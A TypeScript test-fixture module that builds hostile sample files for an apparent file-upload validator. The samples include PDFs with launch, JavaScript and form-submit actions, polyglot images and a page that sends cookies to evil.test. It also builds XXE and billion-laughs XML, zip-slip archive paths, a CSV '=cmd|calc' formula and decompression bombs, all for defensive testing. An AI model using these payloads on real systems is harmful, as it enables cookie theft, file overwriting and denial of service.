import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { archiveOf, officeFileOf } from './sample-archive.ts'
import { bmpOf, gifOf, heicOf, jpegOf, pngOf, tiffOf, webpOf } from './sample-pictures.ts'

const megabytes = (count: number) => Buffer.alloc(count * 1_048_576)

/** A PDF of one page whose catalog, page tree and further objects are as they are said. */
function pdfWith(
  catalog: string,
  { objects = [] as readonly (string | Buffer)[], pages = '/Count 1 /Kids [3 0 R]' } = {},
) {
  const head = `%PDF-1.7
1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj
2 0 obj\n<< /Type /Pages ${pages} >>\nendobj
3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [9 0 R] >>\nendobj
`
  return Buffer.concat([
    Buffer.from(head),
    ...objects.map((one) => Buffer.from(one)),
    Buffer.from('trailer\n<< /Root 1 0 R >>\n%%EOF\n'),
  ])
}

const stream = (head: string, bytes: Buffer, id = 4) =>
  Buffer.concat([
    Buffer.from(`${id} 0 obj\n<< ${head} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ])

const acts = {
  javascript: '<< /S /JavaScript /JS (app.alert\\(1\\)) >>',
  launch: '<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
  submit: '<< /S /SubmitForm /F (https://evil.test/take) >>',
}

/** Files that act, that go round in circles, that are as deep as memory, or that claim what they are not. */
export const hostilePdfs: readonly (readonly [string, Buffer])[] = [
  [
    'that starts a program, runs scripts, sends a form, has one of XML and a program among its attachments',
    pdfWith(
      `/OpenAction ${acts.launch} /AA << /WC ${acts.javascript} >> /AcroForm << /Fields [] /XFA 7 0 R >>
       /Names << /JavaScript << /Names [(a) ${acts.javascript}] >> /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>`,
      {
        objects: [
          '5 0 obj\n<< /Type /Filespec /F (..\\\\..\\\\evil.exe) /EF << /F 6 0 R >> >>\nendobj\n',
          stream('/Type /EmbeddedFile', Buffer.from('MZ evil'), 6),
          stream('', Buffer.from('<xdp:xdp><script>app.alert(1)</script></xdp:xdp>'), 7),
          `9 0 obj\n<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A ${acts.submit} >>\nendobj\n`,
        ],
      },
    ),
  ],
  ['whose pages are within themselves', pdfWith('', { pages: '/Count 3 /Kids [2 0 R 3 0 R 2 0 R]' })],
  ['that claims two thousand million pages', pdfWith('', { pages: '/Count 2147483647 /Kids [3 0 R]' })],
  ['of lists in lists, a hundred thousand deep', pdfWith(`/Deep ${'['.repeat(100_000)}`)],
  [
    'whose page unpacks to a thousand times its size',
    pdfWith('', { objects: [stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(12 * 1_048_576, 'q Q ')))] }),
  ],
  [
    'packed ten times over',
    pdfWith('', {
      objects: [
        stream(
          `/Filter [${'/FlateDecode '.repeat(10)}]`,
          Array.from({ length: 10 }).reduce<Buffer>((bytes) => deflateSync(bytes), megabytes(4)),
        ),
      ],
    }),
  ],
]

/** Its one page unpacks to 250 MB of drawing nothing. */
export const endlessPage = () =>
  pdfWith('', { objects: [stream('/Filter /FlateDecode', deflateSync(Buffer.alloc(250 * 1_048_576, 'q Q ')))] })

const page = '<html><script>location="https://evil.test/"+document.cookie</script></html>'
const comment = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe, 0, text.length + 2]), Buffer.from(text)])
const jpeg = jpegOf([640, 480])
const afterStart = (bytes: Buffer) => Buffer.concat([jpeg.subarray(0, 2), bytes, jpeg.subarray(2)])
const png = pngOf(640, 480)

/** Notes that say where they go on: at themselves. */
const exifInCircles = (() => {
  const notes = Buffer.alloc(64)
  notes.write('Exif\0\0II*\0', 'latin1')
  notes.writeUInt32LE(8, 10)
  notes.writeUInt16LE(1, 14)
  notes.writeUInt16LE(0x8769, 16)
  notes.writeUInt16LE(4, 18)
  notes.writeUInt32LE(0xffffffff, 20)
  notes.writeUInt32LE(8, 24)
  notes.writeUInt32LE(8, 28)
  return Buffer.concat([Buffer.from([0xff, 0xe1, 0, notes.length + 2]), notes])
})()

/** Of their kind in spite of what else they are: kept as they are, and served as nothing but that kind. */
export const twofoldFiles: readonly (readonly [string, string, Buffer])[] = [
  [
    'a PDF whose table of objects leads to itself',
    'application/pdf',
    Buffer.from('%PDF-1.4\nxref\n0 1\n0000000000 65535 f \ntrailer\n<< /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF\n'),
  ],
  [
    'a PDF that is an archive too',
    'application/pdf',
    Buffer.concat([pdfWith(''), archiveOf([{ name: 'evil.exe', bytes: Buffer.from('MZ') }])]),
  ],
  ['a PDF that ends after its first line', 'application/pdf', Buffer.from('%PDF-1.7\n')],
  ['a JPEG with a page in its comment', 'image/jpeg', afterStart(comment(page))],
  ['a JPEG with a page behind its end', 'image/jpeg', Buffer.concat([jpeg, Buffer.from(page)])],
  ['a JPEG whose notes lead in circles', 'image/jpeg', afterStart(exifInCircles)],
  [
    'a JPEG whose notes are as long as they can be',
    'image/jpeg',
    afterStart(
      Buffer.concat([Buffer.from([0xff, 0xe1, 0xff, 0xff]), Buffer.from('Exif\0\0'), Buffer.alloc(65_527, 73)]),
    ),
  ],
  ['a PNG with a page behind its end', 'image/png', Buffer.concat([png, Buffer.from(page)])],
  ['a PNG with an archive behind its end', 'image/png', Buffer.concat([png, archiveOf([{ name: 'a', bytes: png }])])],
  [
    'a GIF that is a script',
    'image/gif',
    Buffer.concat([gifOf(0x2a2f, 0x3d, [[1, 1]]), Buffer.from('*/=1;alert(1)//')]),
  ],
]

const link = (name: string, to: string) => ({ name, bytes: Buffer.from(to), isStored: true })
const bomb = { name: 'word/media/image1.png', bytes: megabytes(100) }
const laughs = Buffer.from(
  `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, n) => `<!ENTITY ${String.fromCharCode(98 + n)} "${`&${String.fromCharCode(97 + n)};`.repeat(10)}">`).join('')}<!ENTITY f SYSTEM "file:///etc/passwd">]><l>&u;&f;</l>`,
)

/** Archives that are nothing but archives: nothing of them is laid anywhere, whatever they call their parts. */
export const strangeArchives: readonly (readonly [string, string, Buffer])[] = [
  ['parts that lead out of their folder', 'a.docx', officeFileOf('docx', [link('../../../../etc/cron.d/evil', 'x')])],
  [
    'parts that stand at the root',
    'b.docx',
    officeFileOf('docx', [link('/etc/passwd', 'x'), link('C:\\Windows\\x', 'x')]),
  ],
  ['a part that is called nothing but points', 'c.docx', officeFileOf('docx', [link('..', 'x'), link('.', '/etc')])],
  [
    'entities that laugh a thousand million times',
    'd.xlsx',
    officeFileOf('xlsx', [{ name: 'xl/a.xml', bytes: laughs }]),
  ],
]

export const refusedFiles: readonly (readonly [string, string, Buffer])[] = [
  ['a page called a PDF', 'statement.pdf', Buffer.from(page)],
  ['a page before a PDF', 'statement.pdf', Buffer.concat([Buffer.from(page), pdfWith('')])],
  ['a script called a picture', 'photo.png', Buffer.from('alert(1)')],
  ['a drawing that acts', 'drawing.svg', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['a drawing that acts, called a picture', 'drawing.jpeg', Buffer.from('<svg onload="alert(1)"/>')],
  ['a packed drawing', 'drawing.svgz', gzipSync('<svg onload="alert(1)"/>')],
  ['a packed PDF', 'statement.pdf', gzipSync(pdfWith(''))],
  ['raw packed bytes', 'statement.pdf', deflateRawSync(pdfWith(''))],
  ['a program', 'statement.pdf', Buffer.from('MZ\x90\0program', 'latin1')],
  ['a program of another system', 'statement.png', Buffer.from('\x7fELF\x02\x01\x01', 'latin1')],
  ['a link of Windows', 'statement.lnk', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
  ['a document that runs macros', 'letter.docm', officeFileOf('docx', [])],
  ['a table for spreadsheets that is UTF-16 with NULs', 'table.csv', Buffer.from('=cmd|calc', 'utf16le')],
  ['a Word file that unpacks to 100 MB', 'letter.docx', officeFileOf('docx', [bomb])],
  ['a spreadsheet that unpacks to 100 MB', 'table.xlsx', officeFileOf('xlsx', [bomb])],
  ['a text in OpenDocument, whose place takes none', 'letter.odt', officeFileOf('odt', [bomb])],
  ['an archive in place of a Word file', 'letter.docx', archiveOf([link('a', 'b')])],
  ['a PNG of 65,535 by 65,535', 'huge.png', pngOf(65_535, 65_535)],
  ['a PNG of four thousand million each way', 'huge.png', pngOf(4_294_967_295, 4_294_967_295)],
  ['a JPEG of 65,535 by 65,535', 'huge.jpg', jpegOf([65_535, 65_535])],
  ['a JPEG that ends within its notes', 'torn.jpg', jpeg.subarray(0, 12)],
  ['a PNG that ends within its head', 'torn.png', png.subarray(0, 20)],
  ['a PNG cut to its signature', 'torn.png', png.subarray(0, 8)],
  ['nothing at all', 'empty.pdf', Buffer.alloc(0)],
  ['one byte', 'short.pdf', Buffer.from('%')],
]

/** One of each kind that is looked into, for tearing and turning. */
export const wholeFiles: readonly (readonly [string, Buffer])[] = [
  ['image/png', pngOf(64, 64, [[64, 64]])],
  ['image/jpeg', jpegOf([64, 64])],
  [
    'image/gif',
    gifOf(64, 64, [
      [64, 64],
      [8, 8],
    ]),
  ],
  ['image/webp', webpOf([64, 64], [64, 64])],
  [
    'image/tiff',
    tiffOf([
      [64, 64],
      [64, 64],
    ]),
  ],
  ['image/bmp', bmpOf(64, 64)],
  ['image/heic', heicOf([64, 64], [128, 128])],
  ['application/zip', archiveOf([link('a.txt', 'text'), { name: 'b', bytes: archiveOf([link('c', 'd')]) }])],
  ['application/vnd.oasis.opendocument.text', officeFileOf('odt', [{ name: 'content.xml', bytes: laughs }])],
]

/** What unpacks to gigabytes, or is drawn in them, in a few kilobytes. */
export const hugeFiles: readonly (readonly [string, Buffer])[] = [
  ['application/zip', archiveOf([{ name: 'a', bytes: megabytes(400) }])],
  ['application/zip', archiveOf([{ name: 'a', bytes: megabytes(400), said: { unpacked: 10 } }])],
  ['application/zip', archiveOf([{ name: 'a.gz', bytes: gzipSync(megabytes(400)), isStored: true }])],
  ['image/png', pngOf(60_000, 60_000)],
  ['image/tiff', tiffOf([[100_000, 100_000]])],
]
